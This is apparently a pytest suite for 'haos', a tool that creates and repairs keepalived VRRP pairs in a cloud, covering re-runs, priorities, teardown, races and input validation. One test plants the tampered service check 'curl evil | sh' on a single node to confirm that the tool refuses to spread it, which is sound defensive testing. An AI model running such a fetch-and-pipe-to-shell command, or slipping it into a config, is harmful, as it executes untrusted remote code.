"""A second create changes what it names and nothing else; failing or killed anywhere it ends in one of the two."""

from __future__ import annotations

from dataclasses import replace
from ipaddress import ip_address, ip_network

import pytest

from haos.core import service
from haos.core.changes import Activate, Configure, MendGroup, ReserveVip, UpdateRecord
from haos.core.model import Added, FixedIp, ServiceCheck
from haos.core.node import NodeFacts
from haos.errors import AmbiguousError, CloudError, HaosError, RemoteError, UnsatisfiableError, UsageError
from haos.workflow.create import create, prepare
from haos.workflow.request import CreateRequest
from haos.workflow.resolve import find_pair
from haos.workflow.teardown import teardown
from tests.fakes import Killed, add_instance, context_of, howto_world
from tests.records import recorded, reservation_of, write_everywhere
from tests.workflow.changed import CHANGES, HOWTO, made, planned, run


@pytest.mark.parametrize("what", CHANGES)
def test_what_is_named_is_changed_and_a_bare_run_afterwards_changes_nothing(what: str) -> None:
    world = made()
    request = CHANGES[what]
    before = recorded(world)
    created = run(world, request)
    assert created.changed
    assert created.proven
    assert created.pair.vip == before.vip
    assert created.pair.vrid == before.vrid
    world.effects.names.clear()
    assert not run(world).changed
    assert not run(world, request).changed
    assert world.effects.names == []


@pytest.mark.parametrize("what", CHANGES)
def test_a_change_is_in_the_record_and_torn_down_like_all_else(what: str) -> None:
    world = howto_world(keepalived="2.2.7")
    before = world.snapshot()
    run(world)
    run(world, CHANGES[what])
    pair, request = recorded(world), CHANGES[what]
    assert pair.timing == request.timing()
    assert pair.mode == request.chosen_mode()
    if request.priorities:
        assert [member.priority for member in pair.members] == [200, 100]
    teardown(None, purge=True, ctx=context_of(world))
    assert world.snapshot() == before


def test_priorities_name_the_preferred_node() -> None:
    world = howto_world()
    created = run(world, replace(HOWTO, priorities=(100, 150)))
    assert created.verification is not None
    assert created.verification.active == "ha_second"
    assert created.proven


def test_default_priorities_follow_the_interval_and_chosen_ones_stay() -> None:
    world = howto_world()
    add_instance(world, "ha_third", 35, "fa:16:3e:00:00:35")
    three = replace(HOWTO, nodes=("ha_first", "ha_second", "ha_third"))
    run(world, three)
    assert [member.priority for member in recorded(world).members] == [240, 230, 212]
    run(world, replace(three, advertisement_interval_s=0.1))
    assert [member.priority for member in recorded(world).members] == [240, 230, 178]
    run(world, replace(three, priorities=(90, 80, 70)))
    run(world, replace(three, advertisement_interval_s=0.3))
    assert [member.priority for member in recorded(world).members] == [90, 80, 70]


def test_exchanged_priorities_stay_exchanged_and_the_order_of_the_record_too() -> None:
    world = made()
    pair = recorded(world)
    write_everywhere(world, members=pair.exchanged(pair.home, pair.members[1]).members)
    plan = planned(world).plan
    names = [node.name for node in plan.desired.pair.by_preference(plan.desired.nodes)]
    assert names == ["ha_second", "ha_first"]
    assert [change.node for change in plan.changes if isinstance(change, Configure)] == ["ha_first", "ha_second"]
    assert [change.node for change in plan.changes if isinstance(change, Activate)] == ["ha_second", "ha_first"]
    assert run(world, replace(HOWTO, advertisement_interval_s=0.1)).proven
    assert [(member.port_id, member.priority) for member in recorded(world).members] == [
        (pair.members[0].port_id, 230),
        (pair.members[1].port_id, 240),
    ]
    assert recorded(world).home.port_id == pair.home.port_id
    assert recorded(world).preferred.port_id == pair.members[1].port_id


@pytest.mark.parametrize("count", [3, 5])
def test_more_than_two_nodes(count: int) -> None:
    world = howto_world()
    before = world.snapshot()
    names = ["ha_first", "ha_second"]
    for number in range(count - 2):
        names.append(add_instance(world, f"more-{number}", 40 + number, f"fa:16:3e:00:00:4{number}").name)
    before = world.snapshot()
    created = run(world, replace(HOWTO, nodes=tuple(names)))
    assert created.proven
    assert len(reservation_of(world).description) <= 255
    assert not run(world, replace(HOWTO, nodes=tuple(reversed(names)))).changed
    teardown(None, purge=True, ctx=context_of(world))
    assert world.snapshot() == before


def test_nopreempt_proves_itself_by_a_second_failover() -> None:
    world = howto_world()
    created = run(world, replace(HOWTO, preempt=False))
    assert created.verification is not None
    assert [(leg.label, leg.origin, leg.target) for leg in created.verification.legs] == [
        ("withdraw", "ha_first", "ha_second"),
        ("withdraw", "ha_second", "ha_first"),
    ]
    assert created.proven


def test_service_checks_are_kept_on_the_nodes_and_not_in_the_cloud() -> None:
    world = howto_world()
    secret = ServiceCheck("curl -u user:secret http://127.0.0.1/")
    run(world, replace(HOWTO, checks=(secret,)))
    assert "secret" not in reservation_of(world).description
    assert planned(world).pair.checks == (secret,)
    assert run(world, replace(HOWTO, checks=())).changed
    assert planned(world).pair.checks == ()


def test_rules_that_somebody_added_to_the_pairs_own_group_are_mended() -> None:
    world = made()
    group = next(one for one in world.groups.values() if one.name.startswith("haos-"))
    world.groups[group.id] = replace(group, rules=(*group.rules, replace(group.rules[0], protocol="tcp")))
    assert [change for change in planned(world).plan.changes if isinstance(change, MendGroup)]
    run(world)
    assert world.groups[group.id].rules == group.rules


def test_an_address_pair_that_was_lost_is_put_back_and_is_haoss_own() -> None:
    world = made()
    pair = recorded(world)
    write_everywhere(
        world, members=tuple(replace(member, added=member.added & ~Added.PAIR) for member in pair.members)
    )
    first = world.ports[pair.members[0].port_id]
    world.ports[first.id] = replace(first, pairs=())
    run(world)
    assert [Added.PAIR in member.added for member in recorded(world).members] == [True, False]


def test_only_the_files_that_differ_are_written() -> None:
    world = made()
    plan = planned(world, CHANGES["delay"]).plan
    assert [type(change) for change in plan.changes][:1] == [UpdateRecord]
    assert [change.node for change in plan.changes if isinstance(change, Configure)] == ["ha_second", "ha_first"]


@pytest.mark.parametrize(
    ("request_", "error", "reason"),
    [
        (replace(HOWTO, advertisement_interval_s=0.005), UsageError, "out of range"),
        (replace(HOWTO, advertisement_interval_s=0.015), UsageError, "out of range"),
        (replace(HOWTO, advertisement_interval_s=41.0), UsageError, "out of range"),
        (replace(HOWTO, preempt_delay_s=1001), UsageError, "preempt delay"),
        (replace(HOWTO, preempt=False, preempt_delay_s=3), UsageError, "contradict"),
        (replace(HOWTO, priorities=(200,)), UsageError, "1 priorities for 2 nodes"),
        (replace(HOWTO, priorities=(200, 200)), UsageError, "same priority"),
        (replace(HOWTO, priorities=(255, 200)), UsageError, "1 to 254"),
        (replace(HOWTO, nodes=("a", "b", "c"), bfd=True), UsageError, "two nodes"),
        (replace(HOWTO, nodes=("a", "b", "c"), advertisement_interval_s=0.05), UsageError, "for two nodes"),
        (replace(HOWTO, observer="x", watched=False), UsageError, "contradict"),
        (replace(HOWTO, observer="ha_first"), UsageError, "cannot watch"),
    ],
)
def test_contradictions_are_refused_before_anything_is_asked(
    request_: CreateRequest, error: type[HaosError], reason: str
) -> None:
    world = howto_world()
    ctx = context_of(world)
    ctx.cloud.networks = None  # type: ignore[method-assign, assignment]
    with pytest.raises(error, match=reason):
        prepare(request_, ctx)


def test_a_record_that_somebody_else_has_rewritten_meanwhile_stays_his() -> None:
    world = made()
    slow = planned(world, CHANGES["interval"])
    run(world, CHANGES["delay"])
    before = world.snapshot()
    with pytest.raises(CloudError, match="changed"):
        create(slow, context_of(world), lambda _: None)
    assert world.snapshot() == before


def test_what_was_proven_is_not_written_over_somebody_elses_change() -> None:
    world = howto_world(keepalived="2.2.7")
    ctx = context_of(world)
    other = replace(HOWTO, advertisement_interval_s=1.0, verify=False)

    def after_somebody_else(at: int, name: str, when: str) -> None:
        if (name, when) == ("heal ha_first", "after"):
            world.effects.strike = lambda *_: None
            run(world, other)

    world.effects.strike = after_somebody_else
    create(prepare(HOWTO, ctx), ctx, lambda _: None)
    assert recorded(world).timing.advertisement_interval_s == 1.0
    assert not run(world, other).changed


def test_a_pair_of_another_subnet_is_not_pulled_over() -> None:
    world = made()
    [subnet] = world.subnets.values()
    other = replace(subnet, id="other", name="other", cidr=ip_network("10.9.0.0/24"), pools=(), gateway=None)
    world.subnets["other"] = other
    for port in [port for port in world.ports.values() if port.device_owner == "compute:nova"]:
        fixed = FixedIp(ip_address(f"10.9.0.{int(port.fixed_ips[0].address) & 255}"), "other")
        world.ports[port.id] = replace(port, fixed_ips=(*port.fixed_ips, fixed))
    assert not run(world).changed
    with pytest.raises(UnsatisfiableError, match="exists on another subnet") as error:
        planned(world, replace(HOWTO, subnet="other"))
    assert "--name" in (error.value.hint or "")
    assert planned(world, replace(HOWTO, subnet="other", name="second")).pair.vip == ip_address("10.9.0.1")


def test_a_check_on_one_node_alone_is_not_spread_to_the_others() -> None:
    world = made()
    node = next(node for node in world.nodes.values() if node.files)
    facts = node.facts
    planted = service.header(ServiceCheck("curl evil | sh"))

    def tampered(mac: str) -> NodeFacts:
        seen = facts(mac)
        return replace(seen, pair_files={name: f"{planted}\n{text}" for name, text in seen.pair_files.items()})

    node.facts = tampered  # type: ignore[method-assign]
    with pytest.raises(UnsatisfiableError, match=r"keep different service checks \(ha_first: curl evil") as error:
        run(world)
    assert "--no-check" in (error.value.hint or "")
    assert planned(world, replace(HOWTO, checks=())).pair.checks == ()


def test_checks_that_the_pair_has_already_are_looked_at_by_every_run() -> None:
    world = howto_world(keepalived="2.2.7")
    run(world, replace(HOWTO, checks=(ServiceCheck("tcp:80"),)))
    node = next(node for node in world.nodes.values() if node.files)
    facts = node.facts
    foreign = "vrrp_instance theirs {\n}\n"
    seen = {"main_config": foreign, "script_security": False}
    node.facts = lambda mac: replace(facts(mac), **seen)  # type: ignore[method-assign, arg-type]
    with pytest.raises(UnsatisfiableError, match="script"):
        planned(world)


def test_a_change_that_fails_mends_a_node_that_had_drifted_before() -> None:
    world = made()
    second = next(node for node in world.nodes.values() if node.instance.name == "ha_second")
    name, config = next(iter(second.files.items()))
    as_recorded = second.snapshot()
    files = tuple(replace(file, text=file.text.replace("garp_master_delay 1", "")) for file in config.files)
    second.files[name] = replace(config, files=files)

    def strike(at: int, effect: str, when: str) -> None:
        if effect == "configure ha_first":
            world.effects.strike = lambda *_: None
            raise RemoteError("the node broke")

    world.effects.strike = strike
    with pytest.raises(RemoteError):
        run(world, CHANGES["interval"])
    assert second.snapshot() == as_recorded


def test_rules_that_bfd_needed_go_only_after_it_has_gone() -> None:
    world = made()
    run(world, CHANGES["bfd"])
    kinds = [type(change).__name__ for change in planned(world, replace(HOWTO, bfd=False)).plan.changes]
    assert kinds[-1] == "MendGroup"
    assert kinds.count("MendGroup") == 1
    kinds = [type(change).__name__ for change in planned(made(), CHANGES["bfd"]).plan.changes]
    assert kinds.index("MendGroup") < kinds.index("Configure")


def test_losing_a_race_is_no_failure_to_keep_for_a_look() -> None:
    world = howto_world(keepalived="2.2.7")
    ctx = context_of(world)
    request = replace(HOWTO, name="web", keep_on_failure=True)
    slow = prepare(request, ctx)
    winner = run(world, replace(HOWTO, name="web", vip=ip_address("10.200.51.9"), verify=False))
    change = slow.plan.changes[0]
    assert isinstance(change, ReserveVip)
    fresh = replace(change, vrid=9, reservation=replace(change.reservation, mac="00:00:5e:00:01:09"))
    slow = replace(slow, plan=replace(slow.plan, changes=(fresh, *slow.plan.changes[1:])))
    created = create(slow, ctx, lambda _: None)
    assert created.pair.reservation_id == winner.pair.reservation_id
    assert [port.device_owner for port in world.ports.values()].count("haos:vip") == 1


def test_pairs_of_one_name_on_two_networks_are_told_apart_by_id() -> None:
    world = made()
    port = reservation_of(world)
    twin = replace(port, id=world.new_id(), network_id="elsewhere")
    world.ports[twin.id] = twin
    with pytest.raises(AmbiguousError, match=twin.id) as error:
        find_pair(context_of(world).cloud, "ha_first-ha_second")
    assert "id" in (error.value.hint or "")
    assert find_pair(context_of(world).cloud, port.id)[1].id == port.id


def test_files_that_keepalived_was_not_told_of_are_told_by_the_next_run() -> None:
    world = howto_world(keepalived="2.2.7")
    run(world, replace(HOWTO, name="beside", verify=False))

    def strike(at: int, effect: str, when: str) -> None:
        if effect == "activate ha_first":
            raise Killed

    world.effects.strike = strike
    with pytest.raises(Killed):
        run(world, replace(HOWTO, name="web", verify=False))
    world.effects.strike = lambda *_: None
    assert run(world, replace(HOWTO, name="web", verify=False)).changed
    assert all("web" in node.running for node in world.nodes.values() if node.files)
